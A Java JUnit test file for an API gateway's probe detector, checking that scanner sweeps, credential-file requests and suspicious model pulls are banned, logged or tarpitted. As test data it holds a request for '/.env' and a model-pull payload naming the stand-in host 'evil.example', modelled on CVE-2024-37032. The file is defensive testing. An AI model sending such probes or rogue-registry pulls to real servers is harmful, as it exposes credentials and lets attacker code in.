package dev.gatehouse.abuse;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.testing.AccessLogCapture;
import dev.gatehouse.testing.GatewayFixture;
import dev.gatehouse.testing.GatewayFixture.RawResponse;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

/**
 * Probe detection end to end, in each action: ban, log and tarpit. Scanners get the answers they
 * would have got anyway; the verdict acts on their next request. Auth-failure bans are switched off
 * here, so that every ban seen is the detector's. Each client has its own 127.0.0.0/8 address.
 */
class ProbeDetectionTest {

  static Map<String, String> settings(String action, String... more) {
    Map<String, String> m =
        new HashMap<>(Map.of("probes.action", action, "bans.never", "", "bans.auth_failures", "0"));
    for (int i = 0; i < more.length; i += 2) {
      m.put(more[i], more[i + 1]);
    }
    return m;
  }

  static String get(String path, String key) {
    return "GET "
        + path
        + " HTTP/1.1\r\nHost: gatehouse.test\r\n"
        + (key == null ? "" : "Authorization: Bearer " + key + "\r\n")
        + "Connection: close\r\n\r\n";
  }

  static String post(String path, String key, String body) {
    return "POST "
        + path
        + " HTTP/1.1\r\nHost: gatehouse.test\r\nAuthorization: Bearer "
        + key
        + "\r\n"
        + "Content-Type: application/json\r\nContent-Length: "
        + body.length()
        + "\r\nConnection: close\r\n\r\n"
        + body;
  }

  /** What the nuclei and nmap templates fetch, in one client's order. */
  static final List<String> SWEEP =
      List.of("/", "/api/tags", "/v1/models", "/version", "/props", "/api/v1/model", "/metrics");

  /**
   * Sweeps without a key from {@code ip} until it is refused as banned; returns how many got their
   * 401.
   */
  static int sweep(GatewayFixture gw, String ip) throws Exception {
    int answered = 0;
    for (String path : SWEEP) {
      RawResponse r = gw.raw(get(path, null), ip);
      if (r.status() == -1 || r.status() == 403) {
        break; // closed, or refused as banned (bans.refusal: 403)
      }
      assertThat(r.status()).isEqualTo(401); // the same answer as ever: nothing to learn
      answered++;
    }
    return answered;
  }

  @Test
  void inBanModeAScannerIsBannedAndOthersAreServed() throws Exception {
    try (GatewayFixture gw = GatewayFixture.start(settings("ban"));
        AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
      String key = gw.newKey();
      // why: judged on its fourth request, before that answer goes out: the fifth, sent the moment
      // the fourth answer arrives, is refused
      assertThat(sweep(gw, "127.0.0.20")).isEqualTo(4);
      assertThat(gw.raw(get("/healthz", null), "127.0.0.20").status())
          .isEqualTo(-1); // banned: closed before anything else
      assertThat(gw.raw(get("/api/tags", key), "127.0.0.20").status())
          .as("a valid key does not help")
          .isEqualTo(-1);
      assertThat(gw.upstream.requests()).isEmpty();
      assertThat(
              abuse.await(
                  "probe verdict ip=127.0.0.20 ",
                  "score=10",
                  "action=ban",
                  "signals=sweep:2,unauth_inventory:8"))
          .isNotNull();
      var ban = gw.store.findBan("127.0.0.20");
      for (int i = 0; i < 50 && ban.isEmpty(); i++) {
        Thread.sleep(20); // written in the background
        ban = gw.store.findBan("127.0.0.20");
      }
      assertThat(ban.orElseThrow().reasons())
          .containsExactly("probe score 10: sweep:2,unauth_inventory:8");
      assertThat(ban.orElseThrow().samplePaths())
          .containsExactly("/", "/api/tags", "/v1/models", "/version");
      assertThat(gw.raw(get("/api/tags", key), "127.0.0.21").status()).isEqualTo(200);
    }
  }

  @Test
  void aCredentialFileRequestBansAtOnceThoughItsAnswerIsUnchanged() throws Exception {
    try (GatewayFixture gw = GatewayFixture.start(settings("ban"));
        AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
      String key = gw.newKey();
      RawResponse r = gw.raw(get("/.env", key), "127.0.0.22");
      assertThat(r.status()).isEqualTo(404);
      assertThat(r.body()).contains("policy.endpoint_unknown");
      assertThat(gw.raw(get("/healthz", null), "127.0.0.22").status())
          .isEqualTo(-1); // banned: closed before anything else
      assertThat(gw.raw(get("/api/tags", key), "127.0.0.22").status())
          .as("a valid key does not help")
          .isEqualTo(-1);
      assertThat(gw.upstream.requests()).isEmpty();
      assertThat(abuse.await("probe verdict ip=127.0.0.22 ", "hard=credential_path", "paths=/.env"))
          .isNotNull();
    }
  }

  @Test
  void aRegistryUrlInAPullBansAtOnceButAnotherRegistryDoesNot() throws Exception {
    try (GatewayFixture gw = GatewayFixture.start(settings("ban"))) {
      String manage = gw.newKey(List.of(), List.of("models.manage", "models.read"));
      // why: CVE-2024-37032's check: a URL as the model name is never ordinary use
      RawResponse r =
          gw.raw(
              post(
                  "/api/pull",
                  manage,
                  "{\"name\":\"http://evil.example/rogue/x\",\"insecure\":true}"),
              "127.0.0.23");
      assertThat(r.status()).isEqualTo(403);
      assertThat(r.body()).contains("policy.registry_denied");
      assertThat(gw.raw(get("/healthz", null), "127.0.0.23").status())
          .isEqualTo(-1); // banned: closed before anything else
      assertThat(gw.raw(get("/api/tags", manage), "127.0.0.23").status())
          .as("a valid key does not help")
          .isEqualTo(-1);
      // why: naming a registry that is not allowed is refused, but may be an honest mistake
      RawResponse hf =
          gw.raw(post("/api/pull", manage, "{\"name\":\"hf.co/org/model\"}"), "127.0.0.24");
      assertThat(hf.status()).isEqualTo(403);
      assertThat(gw.raw(get("/api/tags", manage), "127.0.0.24").status()).isEqualTo(200);
      assertThat(gw.upstream.requests()).extracting(rec -> rec.uri()).containsExactly("/api/tags");
    }
  }

  @org.junit.jupiter.params.ParameterizedTest
  @org.junit.jupiter.params.provider.ValueSource(strings = {"none", "text"})
  void servedHelloProbesWithAValidKeyAddUpToAVerdict(String auditPrompt) throws Exception {
    // why: a leaked key used to ask "is inference open?" (a stock prompt, one token) is scored
    // though each answer is a 200, and adds up with the same client's keyless inventory reads. The
    // request's policy fields are let go when it is forwarded (unless the audit record captures
    // the prompt), so the hello verdict on them must be kept for the scoring at the end: without
    // it the two inventory reads alone (4) stay under the threshold (10).
    try (GatewayFixture gw = GatewayFixture.start(settings("log", "audit.prompt", auditPrompt));
        AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
      String key = gw.newKey();
      String probe =
          "{\"model\":\"llama3.2:3b\",\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}],"
              + "\"max_tokens\":1}";
      String chat =
          "{\"model\":\"llama3.2:3b\",\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}],"
              + "\"max_tokens\":64}";
      for (int i = 0; i < 4; i++) {
        // the same key, asking a real question from another address: never scored
        assertThat(gw.raw(post("/v1/chat/completions", key, chat), "127.0.0.27").status())
            .isEqualTo(200);
      }
      for (int i = 0; i < 2; i++) {
        assertThat(gw.raw(post("/v1/chat/completions", key, probe), "127.0.0.26").status())
            .isEqualTo(200);
      }
      assertThat(gw.raw(get("/api/tags", null), "127.0.0.26").status()).isEqualTo(401);
      assertThat(gw.raw(get("/v1/models", null), "127.0.0.26").status()).isEqualTo(401);
      assertThat(
              abuse.await(
                  "probe verdict ip=127.0.0.26 ",
                  "action=log",
                  "signals=unauth_inventory:4,hello:6"))
          .isNotNull();
      assertThat(abuse.lines()).noneMatch(l -> l.contains("ip=127.0.0.27 "));
    }
  }

  @Test
  void inLogModeAVerdictIsOnlyLogged() throws Exception {
    try (GatewayFixture gw = GatewayFixture.start(settings("log"));
        AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
      String key = gw.newKey();
      assertThat(sweep(gw, "127.0.0.25")).isEqualTo(SWEEP.size());
      assertThat(gw.raw(get("/.env", null), "127.0.0.25").status()).isEqualTo(401);
      assertThat(gw.raw(get("/api/tags", key), "127.0.0.25").status()).isEqualTo(200);
      assertThat(abuse.await("probe verdict ip=127.0.0.25 ", "action=log", "hard=-")).isNotNull();
      assertThat(abuse.await("probe verdict ip=127.0.0.25 ", "action=log", "hard=credential_path"))
          .isNotNull();
      assertThat(abuse.lines()).noneMatch(l -> l.startsWith("ban "));
      assertThat(gw.store.listBans()).isEmpty();
    }
  }

  @Test
  void inTarpitModeRefusalsWaitWithoutHoldingThreadsAndEndWithTheWindow() throws Exception {
    try (GatewayFixture gw =
            GatewayFixture.start(
                settings(
                    "tarpit",
                    "probes.tarpit_delay",
                    "600ms",
                    "probes.window",
                    "3s",
                    "bans.refusal",
                    "403"));
        AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
      String key = gw.newKey();
      assertThat(sweep(gw, "127.0.0.26")).isEqualTo(4); // as above: the fifth is refused
      assertThat(abuse.await("tarpit ip=127.0.0.26 ")).isNotNull();
      // Forty tarpitted requests at once: on two event loops, thread-holding delays would starve
      // everyone else for the whole delay.
      ExecutorService pool = Executors.newFixedThreadPool(40);
      try {
        List<Future<long[]>> held = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
          held.add(
              pool.submit(
                  () -> {
                    long t0 = System.nanoTime();
                    RawResponse r = gw.raw(get("/api/tags", key), "127.0.0.26");
                    return new long[] {r.status(), (System.nanoTime() - t0) / 1_000_000};
                  }));
        }
        Thread.sleep(150);
        long t0 = System.nanoTime();
        assertThat(gw.raw(get("/api/tags", key), "127.0.0.27").status()).isEqualTo(200);
        long otherMillis = (System.nanoTime() - t0) / 1_000_000;
        assertThat(otherMillis).as("another client, served while 40 refusals wait").isLessThan(450);
        for (Future<long[]> f : held) {
          long[] r = f.get(10, TimeUnit.SECONDS);
          assertThat(r[0]).isEqualTo(403);
          assertThat(r[1]).isGreaterThanOrEqualTo(550);
        }
      } finally {
        pool.shutdownNow();
      }
      assertThat(gw.upstream.requests()).hasSize(1); // only the other client's request
      // Released when the window ends.
      int status = 0;
      for (int i = 0; i < 40 && status != 200; i++) {
        Thread.sleep(100);
        status = gw.raw(get("/api/tags", key), "127.0.0.26").status();
      }
      assertThat(status).isEqualTo(200);
      assertThat(gw.store.listBans()).isEmpty(); // a tarpit is not a ban
    }
  }
}
